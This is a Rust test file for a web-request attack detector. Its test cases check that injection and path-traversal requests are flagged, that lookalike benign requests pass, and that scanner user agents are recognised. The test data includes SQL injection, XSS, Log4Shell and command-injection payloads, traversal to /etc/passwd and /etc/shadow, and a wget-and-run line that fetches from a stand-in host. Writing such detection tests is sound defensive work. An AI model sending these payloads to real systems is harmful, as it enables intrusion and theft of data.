use super::*;

fn attack(request: &str) -> Option<Attack> {
    judge(request).map(|judgement| judgement.attack)
}

#[test]
fn attacks_are_told() {
    for request in [
        "GET /item.php?id=1%27%20OR%20%271%27=%271 HTTP/1.1",
        "GET /item.php?id=1+UNION+ALL+SELECT+null,null,version()-- HTTP/1.1",
        "GET /item.php?id=1/**/union/**/select/**/1,user(),3/**/from/**/users HTTP/1.1",
        "GET /a?id=1%2527%2520or%25201%253D1--%2520 HTTP/1.1",
        "GET /a?id=1;WAITFOR%20DELAY%20'0:0:5'-- HTTP/1.1",
        "GET /a?x=admin'-- HTTP/1.1",
        "GET /cgi-bin/luci?cmd=;wget+http://192.0.2.1/x+-O+/tmp/x;sh+/tmp/x HTTP/1.1",
        "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1",
        "GET /?q=<script>alert(1)</script> HTTP/1.1",
        "GET /?q=%u003cscript%u003ealert(1) HTTP/1.1",
        "GET /?name={{7*7}} HTTP/1.1",
        "GET /p?host=$(id) HTTP/1.1",
    ] {
        assert_eq!(attack(request), Some(Attack::Injection), "{request}");
    }
    for request in [
        "GET /../../../../etc/passwd HTTP/1.1",
        "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
        "GET /x?file=..%252f..%252f..%252fetc%252fpasswd HTTP/1.1",
        "GET /x?file=..%c0%af..%c0%af..%c0%afetc/shadow HTTP/1.1",
        "GET /x?page=php://filter/convert.base64-encode/resource=index HTTP/1.1",
        "GET /download?f=..\\..\\..\\windows\\win.ini HTTP/1.1",
        "GET /view?f=/etc/passwd HTTP/1.1",
    ] {
        assert_eq!(attack(request), Some(Attack::Traversal), "{request}");
    }
}

#[test]
fn honest_requests_are_not() {
    for request in [
        "GET / HTTP/1.1",
        "GET /search?q=credit+union+select+account HTTP/1.1",
        "GET /search?q=O%27Brien HTTP/1.1",
        "GET /search?q=rock+%26+roll+or+jazz HTTP/1.1",
        "GET /search?q=it%27s+this+or+that%3F HTTP/1.1",
        "GET /search?q=select+a+plan+from+the+list HTTP/1.1",
        "GET /api/items?filter=price%3E10%20and%20price%3C20&sort=order%20by%20name HTTP/1.1",
        "GET /api?a=1&b=2;c=3&id=7 HTTP/1.1",
        "GET /docs/../images/logo.png HTTP/1.1",
        "GET /wiki/Shell_(computing) HTTP/1.1",
        "GET /wiki/Cat_(Unix)?action=edit;section=1 HTTP/1.1",
        "GET /login?return=https://example.org/app?x=1%26y=2 HTTP/1.1",
        "GET /q?expr=f(x)=x%2B1&lang=de HTTP/1.1",
        "POST /graphql?query={user(id:1){name}} HTTP/1.1",
        "GET /t?json=%7B%22a%22:%5B1,2%5D,%22b%22:%22c%22%7D HTTP/1.1",
        "GET /static/app.js?v=1.2.3-rc--1 HTTP/1.1",
        "GET /search?q=how+to+sleep(8+hours) HTTP/1.1",
        "GET /shop?cat=5&cd=7|8 HTTP/1.1",
    ] {
        assert_eq!(judge(request), None, "{request}");
    }
}

#[test]
fn scanners_say_who_they_are() {
    assert_eq!(scanner("sqlmap/1.7#stable (https://sqlmap.org)"), Some("sqlmap"));
    assert_eq!(scanner("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"), Some("nikto"));
    assert_eq!(scanner("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"), None);
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_survived(request in ".{0,300}") {
        let _judgement = judge(&request);
    }

    #[test]
    fn an_attack_is_told_however_its_bytes_are_encoded(mask in proptest::collection::vec(0u8..3, 64)) {
        let plain = "1' union select null,null from users--";
        let encoded: String = plain
            .bytes()
            .zip(mask)
            .map(|(byte, how)| match how {
                0 if byte != b' ' => char::from(byte).to_string(),
                1 => format!("%25{byte:02x}"),
                _ => format!("%{byte:02X}"),
            })
            .collect();
        let request = format!("GET /a?id={encoded} HTTP/1.1");
        proptest::prop_assert_eq!(attack(&request), Some(Attack::Injection));
    }
}
